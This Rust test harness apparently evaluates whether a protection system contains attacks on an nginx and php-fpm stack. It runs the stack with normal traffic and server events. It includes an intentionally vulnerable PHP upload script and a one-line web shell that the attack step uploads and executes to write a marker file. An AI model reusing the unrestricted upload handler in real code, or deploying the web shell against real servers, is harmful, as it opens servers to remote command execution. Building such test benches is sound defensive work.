//! nginx in front of php-fpm; the attacker uploads a web shell.

use std::ffi::OsString;
use std::fs;
use std::io;
use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;

use tempfile::TempDir;

use crate::client::{ClientConnection, Rng, free_port, many};
use crate::experiment::{AttackedServer, Experiment, Training};
use crate::harness::eventually;
use crate::harness::job::folder;
use crate::harness::web_stack::servers;
use crate::source;
use crate::up::{RunningServers, ServerProgram};

/// The files of the web site.
const PAGES: [(&str, &str); 4] = [
    ("index.html", "<h1>It works</h1>\n"),
    ("404.html", "<h1>There is no such page</h1>\n"),
    ("hello.php", "<?php echo 'Hello, ', htmlspecialchars($_GET['name'] ?? 'you');\n"),
    ("broken.php", "<?php throw new Exception('broken');\n"),
];
const GUESTBOOK: &str = r#"<?php
$book = __DIR__ . '/uploads/guestbook';
file_put_contents($book, date('c') . ' ' . $_SERVER['REMOTE_ADDR'] . "\n", FILE_APPEND | LOCK_EX);
if (filesize($book) > 10000) unlink($book);
else echo count(file($book)), ' guests';
"#;
/// The vulnerability: it also accepts uploads of programs.
const UPLOAD: &str = r#"<?php
$file = $_FILES['file'];
move_uploaded_file($file['tmp_name'], __DIR__ . '/uploads/' . basename($file['name']))
    or http_response_code(500);
echo 'stored';
"#;
const SHELL: &str = "<?php system($_GET['c']);";

pub struct NginxPhp {
    folder: TempDir,
    port: u16,
    /// The folder into which the programs were unpacked.
    root: PathBuf,
}

struct HttpReply {
    status: u16,
    stays_open: bool,
}

impl NginxPhp {
    pub fn new() -> Self {
        let it = Self { folder: folder(), port: free_port(), root: servers() };
        for name in ["www", "www/uploads", "tmp"] {
            fs::create_dir(it.path(name)).expect("a folder can be made");
        }
        // The workers run as the user nobody.
        for name in ["www/uploads", "tmp"] {
            fs::set_permissions(it.path(name), fs::Permissions::from_mode(0o777))
                .expect("it is ours");
        }
        for (name, text) in
            PAGES.into_iter().chain([("guestbook.php", GUESTBOOK), ("upload.php", UPLOAD)])
        {
            fs::write(it.path("www").join(name), text).expect("it can be written");
        }
        fs::write(it.path("www/large"), vec![b'.'; 300_000]).expect("it can be written");
        for name in ["nginx.conf", "php-fpm.conf"] {
            let text = fs::read_to_string(source(name)).expect("it is there");
            let text = text.replace("@FOLDER@", &it.folder.path().to_string_lossy());
            let text = text.replace("@PORT@", &it.port.to_string());
            fs::write(it.path(name), text).expect("it can be written");
        }
        it
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn program(&self, name: &'static str, options: &[&str], end: i32) -> ServerProgram {
        let program = self.root.join("programs").join(name);
        let options = options.iter().map(OsString::from);
        let libraries = self.root.join("usr/lib/x86_64-linux-gnu");
        ServerProgram {
            name,
            command: [program.into()].into_iter().chain(options).collect(),
            environment: vec![("LD_LIBRARY_PATH", libraries.into())],
            end,
        }
    }

    fn rotate_logs(&self, up: &RunningServers) {
        for (program, log) in [("nginx", "access.log"), ("php-fpm", "php-fpm.log")] {
            fs::rename(self.path(log), self.path(&format!("{log}.1"))).expect("there is a log");
            up.signal(program, libc::SIGUSR1);
            eventually("a new log", || self.path(log).exists());
        }
    }
}

fn request(connection: &mut ClientConnection, dice: &mut Rng, stay: bool) -> io::Result<HttpReply> {
    match dice.below(12) {
        0..=2 => get(connection, "/", stay),
        3 => get(connection, "/large", stay),
        4 => get(connection, "/missing", stay),
        5 | 6 => get(connection, &format!("/hello.php?name={}", dice.below(1000)), stay),
        7 => get(connection, "/guestbook.php", stay),
        8 => get(connection, "/missing.php", stay),
        9 => get(connection, "/broken.php", stay),
        10 => {
            let content = vec![b'+'; 1 + dice.below(60_000)];
            upload(connection, &format!("upload-{}", dice.below(20)), &content, stay)
        }
        _ => get(connection, "/uploads/upload-0", stay),
    }
}

fn head(method: &str, path: &str, stay: bool) -> String {
    let stay = if stay { "keep-alive" } else { "close" };
    format!("{method} {path} HTTP/1.0\r\nHost: localhost\r\nConnection: {stay}\r\n")
}

fn get(connection: &mut ClientConnection, path: &str, stay: bool) -> io::Result<HttpReply> {
    connection.send(format!("{}\r\n", head("GET", path, stay)).as_bytes())?;
    read_reply(connection)
}

fn upload(
    connection: &mut ClientConnection,
    name: &str,
    content: &[u8],
    stay: bool,
) -> io::Result<HttpReply> {
    let mut body = format!(
        "--border\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\
         Content-Type: application/octet-stream\r\n\r\n"
    )
    .into_bytes();
    body.extend(content);
    body.extend(b"\r\n--border--\r\n");
    let head = head("POST", "/upload.php", stay);
    let kind = "Content-Type: multipart/form-data; boundary=border";
    connection
        .send(format!("{head}{kind}\r\nContent-Length: {}\r\n\r\n", body.len()).as_bytes())?;
    connection.send(&body)?;
    read_reply(connection)
}

fn read_reply(connection: &mut ClientConnection) -> io::Result<HttpReply> {
    let first = connection.line()?;
    let status = first.split(' ').nth(1).and_then(|text| text.parse().ok()).expect("a status");
    let (mut length, mut stays_open) = (None, false);
    loop {
        let line = connection.line()?.to_ascii_lowercase();
        match line.split_once(": ") {
            Some(("content-length", text)) => length = text.parse().ok(),
            Some(("connection", text)) => stays_open = text == "keep-alive",
            Some(_) => {}
            None => break,
        }
    }
    match length {
        Some(length) => connection.bytes(length)?,
        None => connection.read_rest()?,
    };
    Ok(HttpReply { status, stays_open })
}

impl AttackedServer for NginxPhp {
    const NAME: &'static str = "nginx+php";
    const TRAINING: Training =
        Training { times: 8, rounds: 6, most_clients: 8, requests: 1000, longest: 20 };

    fn attack_description(&self) -> &'static str {
        "a web shell is uploaded, and requested to execute a command"
    }

    fn programs(&self) -> Vec<ServerProgram> {
        let config = |name| self.path(name).to_string_lossy().into_owned();
        vec![
            self.program("php-fpm", &["-n", "-F", "-y", &config("php-fpm.conf")], libc::SIGQUIT),
            self.program("nginx", &["-c", &config("nginx.conf")], libc::SIGQUIT),
        ]
    }

    fn is_ready(&self) -> bool {
        let reply = ClientConnection::with_short_timeout(self.port)
            .and_then(|mut it| get(&mut it, "/hello.php", false));
        reply.is_ok_and(|reply| reply.status == 200)
    }

    fn requests(&self, dice: &mut Rng, count: usize, longest: usize) {
        let mut left = count;
        while left > 0 {
            let Ok(mut connection) = ClientConnection::to(self.port) else { continue };
            for number in (0..(1 + dice.below(longest)).min(left)).rev() {
                let Ok(reply) = request(&mut connection, dice, number > 0) else { break };
                assert!(reply.status < 600);
                left -= 1;
                if !reply.stays_open {
                    break;
                }
            }
        }
    }

    fn event(&self, up: &RunningServers, number: usize) {
        match number {
            0 => up.signal("nginx", libc::SIGHUP),
            1 => self.rotate_logs(up),
            2 => up.restart_worker("nginx", libc::SIGTERM),
            _ => up.restart_worker("php-fpm", libc::SIGTERM),
        }
    }

    fn use_normally(&self, up: &RunningServers) -> usize {
        many(6, 3000, 101, |dice, count| self.requests(dice, count, 100), || ());
        up.restart_worker("nginx", libc::SIGTERM);
        many(1, 1000, 102, |dice, count| self.requests(dice, count, 1), || ());
        self.rotate_logs(up);
        many(
            3,
            3000,
            103,
            |dice, count| self.requests(dice, count, 10),
            || {
                up.signal("nginx", libc::SIGHUP);
            },
        );
        up.restart_worker("php-fpm", libc::SIGTERM);
        many(5, 3000, 104, |dice, count| self.requests(dice, count, 40), || ());
        3000 + 1000 + 3000 + 3000
    }

    fn attack(&self) {
        let command = format!("echo+pwned>{}", self.effect().display());
        let _ = ClientConnection::to(self.port).and_then(|mut connection| {
            upload(&mut connection, "shell.php", SHELL.as_bytes(), false)?;
            let mut connection = ClientConnection::to(self.port)?;
            get(&mut connection, &format!("/uploads/shell.php?c={command}"), false)
        });
    }

    fn effect(&self) -> PathBuf {
        self.path("www/uploads/pwned")
    }
}

#[test]
fn web_shell_is_held() {
    let it = Experiment::new(NginxPhp::new());
    it.is_held();
}
